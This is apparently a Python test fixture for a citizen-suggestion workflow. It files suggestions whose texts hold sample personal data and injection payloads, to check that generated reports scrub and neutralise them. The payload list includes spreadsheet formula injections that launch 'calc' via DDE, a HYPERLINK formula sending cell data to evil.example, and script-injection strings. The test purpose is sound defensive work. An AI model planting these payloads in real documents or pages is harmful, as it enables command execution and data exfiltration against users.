"""A campaign whose citizens write personal data and formula/HTML payloads into every free text.

Built like tests/report_fixtures.py: the ``yongchuan-2024`` preset's Flow (default
permissions) on a MemoryStore with a FakeClock.  Each suggestion is filed by the collection
office, handled by the lead unit's staff (researched, partially adopted, replied), reported
upward as an excerpt by the office and turned into a measure, so
its texts reach every part of the report: titles (tables of every format), the three
parts, the reply and the adopted part (JSON and the excerpt report), the adoption record
(tables and both summary documents).

* One suggestion per **personal-data pattern** (:data:`PII`): the pattern is written into
  its title, subject, problem, measures, adopted part, reply and adoption record.
* One suggestion per **payload** (:data:`PAYLOADS`): the payload *starts* its title and its
  adoption record (a formula only runs from the start of a cell) and is written into its
  other texts.
"""

from __future__ import annotations

import datetime as dt

import attrs

from jianyi_flow import SHANGHAI, Actor, FakeClock, MemoryStore, Outcome, Proposer, ReportForm, Role, SuggestionDraft
from jianyi_flow.domain.campaign import Campaign
from jianyi_flow.domain.model import AdoptionForm, ReplyForm, ResearchMethod
from jianyi_flow.presets import yongchuan_2024
from jianyi_flow.service.campaign_flow import make_flow

NOW = dt.datetime(2024, 12, 20, 10, 0, tzinfo=SHANGHAI)
OFFICE = Actor(id="office-1", role=Role.COLLECTION_OFFICE, unit="XFB", name="区征集办")
UNIT = Actor(id="unit-fgw", role=Role.HANDLING_UNIT, unit="FGW")
OWN_PHONE = "13912340001"
"""The proposer's own phone, written into the text as well (the exact-match scrub)."""

PII: dict[str, str] = {
    "ID number, 18 characters, valid check character": "11010519491231002X",
    "ID number, 15 digits (issued before 1999)": "110105491231002",
    "e-mail address": "zhang.san@example.com",
    "mobile, plain": "13598765432",
    "mobile, hyphens": "137-1234-8765",
    "mobile, spaces": "158 2345 6789",
    "mobile, +86 prefix": "+86 186 0000 1234",
    "mobile, fullwidth digits": "１３６１２３４５６７８",
    "landline with area code": "023-49299053",
    "landline in parentheses, extension": "(023)49299054转801",
    "bank card number (Luhn)": "6222021234567890128",
    "the proposer's own phone": OWN_PHONE,
}
"""Row label → the personal data as the citizen wrote it."""

PAYLOADS: dict[str, str] = {
    "formula =": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "formula +": "+1+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a carriage return": "\r=1+1",
    "HTML img onerror": "<img src=x onerror=alert(1)>",
    "HTML script": "<script>alert(1)</script>",
    "Markdown link": "[点我](javascript:alert(1))",
    "Markdown image": "![](http://evil.example/pixel.png)",
}
"""Row label → an injection payload."""


def at(month: int, day: int, hour: int = 10) -> dt.datetime:
    return dt.datetime(2024, month, day, hour, 0, tzinfo=SHANGHAI)


@attrs.frozen
class Hostile:
    campaign: Campaign
    store: MemoryStore


def build() -> Hostile:
    """Build the campaign and run every suggestion to the summary phase."""
    campaign = yongchuan_2024()
    store = MemoryStore()
    clock = FakeClock(at(9, 2))
    flow = make_flow(campaign, store, clock)
    items = [(f"p{i:02d}", f"关于加强社区管理的建议，联系 {text}", text) for i, text in enumerate(PII.values())]
    items += [(f"x{i:02d}", text, text) for i, text in enumerate(PAYLOADS.values())]
    for sid, title, text in items:
        clock.set(at(9, 2))
        own = f"，本人电话 {OWN_PHONE}" if text == OWN_PHONE else ""
        flow.receive(SuggestionDraft(
            title=title,
            subject=f"{text} 事项",
            problem=f"{text} 存在问题{own}。",
            measures=f"{text} 建议措施。",
            area="A1",
            proposer=Proposer(name="市民甲", phone=OWN_PHONE, address="重庆市永川区人民大道1号"),
        ), OFFICE, suggestion_id=sid)
        clock.set(at(9, 3))
        flow.register(sid, OFFICE)
        clock.set(at(9, 4))
        flow.transfer(sid, OFFICE, lead_unit="FGW")
        clock.set(at(9, 10))
        flow.research(sid, UNIT, findings=f"调研 {text}", method=ResearchMethod.FORUM)
        clock.set(at(9, 20))
        flow.decide(sid, UNIT, outcome=Outcome.PARTIALLY_ADOPTED, adopted_part=f"{text} 部分")
        clock.set(at(9, 23))
        flow.reply(sid, UNIT, text=f"{text} 答复", form=ReplyForm.WRITTEN)
        clock.set(at(12, 3))
        flow.report_upward(sid, OFFICE, form=ReportForm.EXCERPT)
        clock.set(at(12, 10))
        flow.record_adoption(sid, OFFICE, adopted_into=f"{text} 措施", form=AdoptionForm.WORK_MEASURE)
    clock.set(NOW)
    return Hostile(campaign, store)
